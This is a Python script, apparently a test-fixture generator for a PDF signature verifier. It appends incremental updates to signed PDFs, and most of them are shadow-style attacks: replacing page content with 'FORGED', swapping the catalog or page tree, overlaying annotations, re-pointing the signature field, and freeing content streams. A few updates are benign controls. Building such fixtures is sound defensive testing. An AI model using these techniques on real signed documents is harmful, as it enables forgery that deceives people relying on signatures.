#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# Builds one incremental-update attack (or one harmless update) on a
# freshly signed PDF, the way an attacker with a text editor would: the
# signed file stays byte for byte, one update is appended after it. The
# structure of the signed file is read with `qpdf --json` (a real reader,
# not ours); the update is written here, with a classic cross-reference
# table or a cross-reference stream.
#   make-attack.py IN OUT KIND XREF
#   make-attack.py IN OUT fieldmdp-sign CERT KEY CHAIN   (an approval
#     signature locking the field "issue" with FieldMDP, by openssl cms)
# KIND: objstm (content stream rewritten, /Type /ObjStm on it), catalog (a
# new catalog without /Type, same /AcroForm, a new page tree, trailer
# /Root pointing at it), overlay (an opaque annotation over the whole
# page), content (content stream rewritten plainly), wrap (a second
# /ByteRange and /Contents pair: a new signature dictionary with the
# first one's ranges, the field pointed at it, and the page rewritten),
# appearance (the signature widget's appearance swapped), note (a small
# annotation), repeat (a section that only lists an unchanged object
# again), addfield (a text field added, for the form-filling test), fill
# (that text field filled in), objstm-rewrite (the object stream holding
# the page tree written again in place, the pages swapped: input must keep
# its page tree in an object stream), second-widget (another widget of the
# signed signature field), info (a new /Info with a new modification date
# and producer), info-title (the same with another title), delete (the
# page's content stream marked free).
# XREF: table or stream.
import json
import re
import subprocess
import sys
import zlib


def load(path):
    out = subprocess.run(["qpdf", "--json=2", "--json-key=qpdf", path],
                         check=True, capture_output=True).stdout
    q = json.loads(out)["qpdf"][1]
    objs = {}
    for key, value in q.items():
        m = re.match(r"obj:(\d+) 0 R", key)
        if m:
            objs[int(m.group(1))] = value
    return objs, q["trailer"]["value"]


def ref_num(v):
    m = re.fullmatch(r"(\d+) 0 R", v) if isinstance(v, str) else None
    return int(m.group(1)) if m else None


def pdf(v):
    """qpdf's JSON value back to PDF syntax."""
    if isinstance(v, bool):
        return "true" if v else "false"
    if v is None:
        return "null"
    if isinstance(v, (int, float)):
        return repr(v)
    if isinstance(v, list):
        return "[" + " ".join(pdf(x) for x in v) + "]"
    if isinstance(v, dict):
        return "<<" + " ".join(k + " " + pdf(x) for k, x in v.items()) + ">>"
    if ref_num(v) is not None or v.startswith("/"):
        return v
    if v.startswith("b:"):
        return "<" + v[2:] + ">"
    if v.startswith("u:"):
        text = v[2:]
        if all(ord(c) < 128 for c in text):
            return "(" + text.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ")"
        return "<FEFF" + text.encode("utf-16-be").hex() + ">"
    raise ValueError(v)


class Update:
    def __init__(self, path):
        self.data = open(path, "rb").read()
        self.objs, self.trailer = load(path)
        self.size = self.trailer["/Size"]
        self.prev = int(re.findall(rb"startxref\s+(\d+)", self.data)[-1])
        self.body = bytearray()
        self.offsets = {}
        self.freed = set()

    def new_num(self):
        self.size += 1
        return self.size - 1

    def value(self, num):
        return self.objs[num].get("value")

    def write(self, num, text, stream=None):
        if not self.body and not self.data.endswith(b"\n"):
            self.body += b"\n"
        self.offsets[num] = len(self.data) + len(self.body)
        self.body += b"%d 0 obj\n" % num
        if stream is None:
            self.body += text.encode("latin-1") + b"\nendobj\n"
        else:
            self.body += text.encode("latin-1") + b"\nstream\n" + stream + b"\nendstream\nendobj\n"

    def write_stream(self, num, entries, data):
        entries = dict(entries)
        entries["/Length"] = len(data)
        self.write(num, pdf(entries), data)

    def finish(self, out, kind, root=None, extra_offsets=None, info=None):
        trailer = {"/Size": self.size, "/Root": root or self.trailer["/Root"], "/Prev": self.prev}
        for key in ("/Info", "/ID"):
            if key in self.trailer:
                trailer[key] = self.trailer[key]
        if info is not None:
            trailer["/Info"] = info
        offsets = dict(self.offsets)
        offsets.update(extra_offsets or {})
        if kind == "table":
            start = len(self.data) + len(self.body)
            text = "xref\n"
            for num in sorted(set(offsets) | self.freed):
                if num in self.freed:
                    text += "%d 1\n0000000000 00001 f \n" % num
                else:
                    text += "%d 1\n%010d 00000 n \n" % (num, offsets[num])
            text += "trailer\n" + pdf(trailer) + "\nstartxref\n%d\n%%%%EOF\n" % start
            self.body += text.encode("latin-1")
        else:
            xnum = self.size
            self.size += 1
            trailer["/Size"] = self.size
            start = len(self.data) + len(self.body)
            offsets[xnum] = start
            rows = b""
            index = []
            for num in sorted(set(offsets) | self.freed):
                index += [num, 1]
                if num in self.freed:
                    rows += bytes([0]) + (0).to_bytes(4, "big") + (1).to_bytes(2, "big")
                else:
                    rows += bytes([1]) + offsets[num].to_bytes(4, "big") + (0).to_bytes(2, "big")
            entries = dict(trailer, **{"/Type": "/XRef", "/W": [1, 4, 2], "/Index": index})
            self.write_stream(xnum, entries, rows)
            self.body += b"startxref\n%d\n%%%%EOF\n" % start
        open(out, "wb").write(self.data + bytes(self.body))


def first_page(up):
    node = ref_num(up.value(ref_num(up.trailer["/Root"]))["/Pages"])
    while "/Kids" in up.value(node):
        node = ref_num(up.value(node)["/Kids"][0])
    return node


def signature_widget(up):
    for num, o in sorted(up.objs.items()):
        v = o.get("value")
        if isinstance(v, dict) and v.get("/FT") == "/Sig" and "/V" in v and "/Rect" in v:
            return num
    raise SystemExit("no signed signature widget")


FORGED = b"q 1 0 0 rg 0 0 595 842 re f Q BT /Helv 40 Tf 72 600 Td (FORGED) Tj ET"


def forged_content():
    return zlib.compress(FORGED)


def overlay_stream(up, width, height):
    num = up.new_num()
    up.write_stream(num, {"/Type": "/XObject", "/Subtype": "/Form", "/BBox": [0, 0, width, height],
                          "/Filter": "/FlateDecode"},
                    zlib.compress(b"1 1 1 rg 0 0 %d %d re f 0 0 1 rg 10 10 %d %d re f" % (width, height, width - 20, height // 3)))
    return num


def add_annot(up, page, annot_num):
    pv = dict(up.value(page))
    annots = pv.get("/Annots", [])
    if ref_num(annots) is not None:
        arr = list(up.value(ref_num(annots)))
        up.write(ref_num(annots), pdf(arr + ["%d 0 R" % annot_num]))
    else:
        pv["/Annots"] = list(annots) + ["%d 0 R" % annot_num]
        up.write(page, pdf(pv))


def sign_fieldmdp(src, out, cert, key, chain):
    """An approval signature whose FieldMDP locks the field "issue", made
    here with openssl cms: our signer writes no FieldMDP."""
    up = Update(src)
    page = first_page(up)
    cat_num = ref_num(up.trailer["/Root"])
    cat = dict(up.value(cat_num))
    sig, field = up.new_num(), up.new_num()
    lock = {"/Type": "/TransformParams", "/Action": "/Include", "/Fields": ["u:issue"], "/V": "/1.2"}
    placeholder = "[0 0000000000 0000000000 0000000000]"
    contents = "<" + "0" * 16384 + ">"
    up.write(sig, "<<" + " ".join([
        "/Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /M (D:20261207000000Z)",
        "/Reference [" + pdf({"/Type": "/SigRef", "/TransformMethod": "/FieldMDP", "/TransformParams": lock}) + "]",
        "/ByteRange " + placeholder, "/Contents " + contents]) + ">>")
    up.write(field, pdf({"/Type": "/Annot", "/Subtype": "/Widget", "/FT": "/Sig", "/T": "u:Locker",
                         "/Rect": [0, 0, 0, 0], "/F": 132, "/P": "%d 0 R" % page, "/V": "%d 0 R" % sig,
                         "/Lock": {"/Type": "/SigFieldLock", "/Action": "/Include", "/Fields": ["u:issue"]}}))
    form = cat["/AcroForm"]
    if ref_num(form) is not None:
        fv = dict(up.value(ref_num(form)))
        fv["/Fields"] = list(fv.get("/Fields", [])) + ["%d 0 R" % field]
        fv["/SigFlags"] = 3
        up.write(ref_num(form), pdf(fv))
    else:
        form = dict(form)
        form["/Fields"] = list(form.get("/Fields", [])) + ["%d 0 R" % field]
        form["/SigFlags"] = 3
        cat["/AcroForm"] = form
        up.write(cat_num, pdf(cat))
    add_annot(up, page, field)
    up.finish(out, "table")
    data = bytearray(open(out, "rb").read())
    at = data.rindex(contents.encode())
    hole = (at, at + len(contents))
    br = "[0 %010d %010d %010d]" % (hole[0], hole[1], len(data) - hole[1])
    pos = data.rindex(placeholder.encode())
    data[pos:pos + len(br)] = br.encode()
    signed = bytes(data[:hole[0]]) + bytes(data[hole[1]:])
    open(out + ".ranges", "wb").write(signed)
    subprocess.run(["openssl", "cms", "-sign", "-binary", "-outform", "DER", "-in", out + ".ranges",
                    "-out", out + ".der", "-signer", cert, "-inkey", key, "-certfile", chain,
                    "-md", "sha256", "-nosmimecap", "-cades"], check=True)
    der = open(out + ".der", "rb").read().hex().encode()
    data[hole[0] + 1:hole[0] + 1 + len(der)] = der
    open(out, "wb").write(bytes(data))


def main():
    if sys.argv[3] == "fieldmdp-sign":
        sign_fieldmdp(sys.argv[1], sys.argv[2], *sys.argv[4:7])
        return
    src, out, kind, xref = sys.argv[1:5]
    up = Update(src)
    page = first_page(up)
    pv = up.value(page)
    root = None
    extra = None
    if kind in ("objstm", "content"):
        contents = pv["/Contents"]
        num = ref_num(contents) if ref_num(contents) is not None else ref_num(contents[0])
        entries = {"/Filter": "/FlateDecode"}
        if kind == "objstm":
            entries.update({"/Type": "/ObjStm", "/N": 0, "/First": 0})
        up.write_stream(num, entries, forged_content())
    elif kind == "delete":
        # The page's content stream marked free: viewers show an empty page.
        contents = pv["/Contents"]
        up.freed.add(ref_num(contents) if ref_num(contents) is not None else ref_num(contents[0]))
    elif kind == "catalog":
        cat = dict(up.value(ref_num(up.trailer["/Root"])))
        cat.pop("/Type", None)
        cnum, pnum, pgnum, snum = up.new_num(), up.new_num(), up.new_num(), up.new_num()
        up.write_stream(snum, {"/Filter": "/FlateDecode"}, forged_content())
        newpage = dict(pv)
        newpage["/Parent"] = "%d 0 R" % pnum
        newpage["/Contents"] = "%d 0 R" % snum
        up.write(pgnum, pdf(newpage))
        up.write(pnum, pdf({"/Type": "/Pages", "/Kids": ["%d 0 R" % pgnum], "/Count": 1}))
        cat["/Pages"] = "%d 0 R" % pnum
        up.write(cnum, pdf(cat))
        root = "%d 0 R" % cnum
    elif kind in ("overlay", "note"):
        box = pv.get("/MediaBox", [0, 0, 595, 842])
        w, h = int(box[2]), int(box[3])
        rect = [0, 0, w, h] if kind == "overlay" else [20, 20, 120, 60]
        ap = overlay_stream(up, rect[2] - rect[0], rect[3] - rect[1])
        anum = up.new_num()
        up.write(anum, pdf({"/Type": "/Annot", "/Subtype": "/Stamp" if kind == "overlay" else "/Square",
                            "/Rect": rect, "/F": 4, "/P": "%d 0 R" % page, "/AP": {"/N": "%d 0 R" % ap}}))
        add_annot(up, page, anum)
    elif kind == "wrap":
        widget = signature_widget(up)
        wv = dict(up.value(widget))
        sig = dict(up.value(ref_num(wv["/V"])))
        new_sig = up.new_num()
        up.write(new_sig, pdf(sig))
        wv["/V"] = "%d 0 R" % new_sig
        up.write(widget, pdf(wv))
        contents = pv["/Contents"]
        num = ref_num(contents) if ref_num(contents) is not None else ref_num(contents[0])
        up.write_stream(num, {"/Filter": "/FlateDecode"}, forged_content())
    elif kind == "appearance":
        widget = signature_widget(up)
        wv = dict(up.value(widget))
        r = wv["/Rect"]
        ap = overlay_stream(up, int(r[2] - r[0]), int(r[3] - r[1]))
        wv["/AP"] = {"/N": "%d 0 R" % ap}
        up.write(widget, pdf(wv))
    elif kind == "repeat":
        # The catalog listed again where it already is: nothing changes.
        cat = ref_num(up.trailer["/Root"])
        m = list(re.finditer(rb"(?<![0-9])%d 0 obj" % cat, up.data))[-1]
        extra = {cat: m.start()}
    elif kind == "addfield":
        cat_num = ref_num(up.trailer["/Root"])
        cat = dict(up.value(cat_num))
        fnum, ap = up.new_num(), up.new_num()
        up.write_stream(ap, {"/Type": "/XObject", "/Subtype": "/Form", "/BBox": [0, 0, 200, 20]}, b"")
        up.write(fnum, pdf({"/Type": "/Annot", "/Subtype": "/Widget", "/FT": "/Tx", "/T": "u:issue",
                            "/Rect": [72, 60, 272, 80], "/F": 4, "/P": "%d 0 R" % page,
                            "/DA": "u:/Helv 12 Tf 0 g", "/AP": {"/N": "%d 0 R" % ap}}))
        form = {"/Fields": ["%d 0 R" % fnum],
                "/DR": {"/Font": {"/Helv": {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}}},
                "/DA": "u:/Helv 12 Tf 0 g"}
        cat["/AcroForm"] = form
        up.write(cat_num, pdf(cat))
        add_annot(up, page, fnum)
    elif kind == "fill":
        field = [n for n, o in up.objs.items() if isinstance(o.get("value"), dict) and o["value"].get("/T") == "u:issue"][0]
        fv = dict(up.value(field))
        ap = up.new_num()
        up.write_stream(ap, {"/Type": "/XObject", "/Subtype": "/Form", "/BBox": [0, 0, 200, 20],
                             "/Resources": {"/Font": {"/Helv": {"/Type": "/Font", "/Subtype": "/Type1",
                                                                  "/BaseFont": "/Helvetica"}}}},
                        b"/Tx BMC BT /Helv 12 Tf 2 5 Td (12/QD-UBND) Tj ET EMC")
        fv["/V"] = "u:12/QD-UBND"
        fv["/AP"] = {"/N": "%d 0 R" % ap}
        up.write(field, pdf(fv))
    elif kind == "objstm-rewrite":
        # The object stream holding the page tree's root written again in
        # place with the pages swapped; the page tree itself is not listed
        # in the new section, so only the object stream's number changes.
        pages = ref_num(up.value(ref_num(up.trailer["/Root"]))["/Pages"])
        xref = subprocess.run(["qpdf", "--show-xref", src], check=True, capture_output=True, text=True).stdout
        m = re.search(r"^%d/0: compressed; stream = (\d+)" % pages, xref, re.M)
        if not m:
            raise SystemExit("the page tree is not in an object stream")
        stm = int(m.group(1))
        data = subprocess.run(["qpdf", "--show-object=%d" % stm, "--filtered-stream-data", src],
                              check=True, capture_output=True).stdout
        first = up.objs[stm]["stream"]["dict"]["/First"]
        head = [int(x) for x in data[:first].split()]
        nums, offs = head[0::2], head[1::2]
        bodies = [data[first + offs[i]:first + (offs[i + 1] if i + 1 < len(offs) else len(data) - first)]
                  for i in range(len(nums))]
        tree = dict(up.value(pages))
        tree["/Kids"] = list(reversed(tree["/Kids"]))
        bodies[nums.index(pages)] = pdf(tree).encode("latin-1") + b"\n"
        header, body, at = b"", b"", 0
        for num, text in zip(nums, bodies):
            header += b"%d %d " % (num, at)
            body += text
            at += len(text)
        header += b"\n"
        up.write_stream(stm, {"/Type": "/ObjStm", "/N": len(nums), "/First": len(header)}, header + body)
    elif kind == "second-widget":
        # Another widget of the signed signature field, drawing elsewhere.
        widget = signature_widget(up)
        ap = overlay_stream(up, 200, 60)
        anum = up.new_num()
        up.write(anum, pdf({"/Type": "/Annot", "/Subtype": "/Widget", "/Parent": "%d 0 R" % widget,
                            "/Rect": [72, 400, 272, 460], "/F": 4, "/P": "%d 0 R" % page,
                            "/AP": {"/N": "%d 0 R" % ap}}))
        add_annot(up, page, anum)
    elif kind in ("info", "info-title"):
        # A new /Info, as writers that sign update it: only the date and
        # producer (allowed), or the title too (not allowed).
        old = ref_num(up.trailer.get("/Info"))
        info = dict(up.value(old)) if old is not None else {}
        info["/ModDate"] = "u:D:20991231235959Z"
        info["/Producer"] = "u:iText-like signer"
        if kind == "info-title":
            info["/Title"] = "u:FORGED"
        num = up.new_num()
        up.write(num, pdf(info))
        up.finish(out, xref, root, extra, "%d 0 R" % num)
        return
    else:
        raise SystemExit("unknown kind " + kind)
    up.finish(out, xref, root, extra)


main()
